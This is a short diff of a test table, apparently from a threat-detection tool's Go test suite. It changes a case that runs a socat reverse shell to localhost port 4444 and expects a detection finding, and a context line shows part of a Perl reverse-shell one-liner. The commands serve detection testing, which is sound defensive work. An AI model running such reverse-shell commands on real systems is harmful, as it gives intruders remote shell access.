@@ -51,7 +51,7 @@ open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh", "-
 		},
 	},
 	{
-		name: "reverse shell of socat at a terminal", command: "timeout 1 socat exec:/bin/sh,pty,stderr tcp:127.0.0.1:4444 || :",
+		name: "reverse shell of socat at a terminal", command: "socat exec:/bin/sh,pty,stderr tcp:127.0.0.1:4444 & sleep 1; kill $!",
 		finds: []string{`TH-2 /usr/bin/socat {"arguments":"socat exec:/bin/sh,pty,stderr tcp:127.0.0.1:4444","program":"/usr/bin/socat"}`},
 	},
 	{
